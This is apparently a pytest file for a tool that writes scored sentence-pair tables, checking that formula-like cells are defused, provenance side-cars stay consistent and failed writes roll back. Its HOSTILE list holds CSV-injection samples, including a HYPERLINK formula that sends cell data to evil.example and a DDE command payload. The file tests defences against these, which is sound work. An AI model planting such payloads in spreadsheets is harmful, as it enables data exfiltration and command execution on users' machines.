"""Tables and their provenance side-cars: written as a pair, formula-like texts defused."""

import errno
import json
import os

import pandas as pd
import pytest

from calibsim_gui.core.analysis.pairs import ScoredPairs
from calibsim_gui.core.errors import InputError, WriteError
from calibsim_gui.core.io.output import check_output_path, protect_formulas, write_scored_pairs

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
           "@SUM(A1:A2)", "\tTAB", "\rCR", "plain text", "a = b"]


def scored(texts=HOSTILE):
    frame = pd.DataFrame({"sentence1": texts, "sentence2": list(reversed(texts)),
                          "cosine_raw": [-0.5 + i / 10 for i in range(len(texts))]})
    return ScoredPairs(frame, {"model": {"id": "fake"}})


def test_formula_like_texts_get_a_leading_quote_and_numbers_stay(tmp_path):
    out = write_scored_pairs(scored(), tmp_path / "s.csv")
    back = pd.read_csv(out, keep_default_na=False)
    assert back["sentence1"].tolist() == ["'" + t for t in HOSTILE[:7]] + HOSTILE[7:]
    assert back["cosine_raw"].tolist() == pytest.approx(scored().frame["cosine_raw"].tolist())
    protection = json.loads((tmp_path / "s.csv.provenance.json").read_text())["formula_protection"]
    assert protection["applied"] is True and protection["cells_changed"] == 14


def test_keep_formulas_writes_texts_as_they_are_and_says_so(tmp_path):
    out = write_scored_pairs(scored(), tmp_path / "s.tsv", keep_formulas=True)
    back = pd.read_csv(out, sep="\t", keep_default_na=False, quoting=0)
    assert back["sentence1"].tolist()[:5] == HOSTILE[:5]
    protection = json.loads((tmp_path / "s.tsv.provenance.json").read_text())["formula_protection"]
    assert protection == {**protection, "applied": False, "cells_changed": 0}


def test_column_names_and_index_are_protected_too():
    frame = pd.DataFrame({"=evil": ["x"]}, index=pd.Index(["@doc"], name="ids"))
    out, changed = protect_formulas(frame)
    assert (list(out.columns), list(out.index), changed) == (["'=evil"], ["'@doc"], 2)


def previous_pair(tmp_path):
    out = write_scored_pairs(scored(["old"] * 3), tmp_path / "s.csv")
    sidecar = tmp_path / "s.csv.provenance.json"
    return out, sidecar, out.read_bytes(), sidecar.read_bytes()


def test_a_failed_side_car_rename_restores_the_previous_table_and_side_car(tmp_path, monkeypatch):
    out, sidecar, table_before, sidecar_before = previous_pair(tmp_path)
    replace = os.replace

    def full_at_the_side_car(src, dst):
        if str(dst).endswith(".provenance.json"):
            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        return replace(src, dst)

    monkeypatch.setattr(os, "replace", full_at_the_side_car)
    with pytest.raises(WriteError, match="No space left on device.*free some disk space") as caught:
        write_scored_pairs(scored(), out)
    assert isinstance(caught.value, InputError) and isinstance(caught.value, OSError)
    assert str(sidecar) in str(caught.value)
    monkeypatch.undo()
    assert (out.read_bytes(), sidecar.read_bytes()) == (table_before, sidecar_before)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.csv", "s.csv.provenance.json"]


def test_a_full_disk_while_writing_leaves_both_files_as_they_were(tmp_path, monkeypatch):
    out, sidecar, table_before, sidecar_before = previous_pair(tmp_path)

    def disk_full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    with pytest.raises(WriteError, match=r"s\.csv: could not write the file \(No space left"):
        write_scored_pairs(scored(), out)
    assert (out.read_bytes(), sidecar.read_bytes()) == (table_before, sidecar_before)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.csv", "s.csv.provenance.json"]


def test_an_existing_side_car_needs_force_and_an_input_is_never_replaced(tmp_path):
    (tmp_path / "s.csv.provenance.json").write_text("{}")
    with pytest.raises(InputError, match=r"provenance\.json: the output file exists already"):
        check_output_path(tmp_path / "s.csv")
    check_output_path(tmp_path / "s.csv", force=True)
    pairs = tmp_path / "pairs.csv"
    pairs.write_text("a,b\n")
    with pytest.raises(InputError, match="would overwrite the input"):
        check_output_path(pairs, inputs=[pairs], force=True)
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "m.csv").write_text("x")
    with pytest.raises(InputError, match="would overwrite the input"):
        check_output_path(folder / "m.csv", inputs=[folder], force=True)
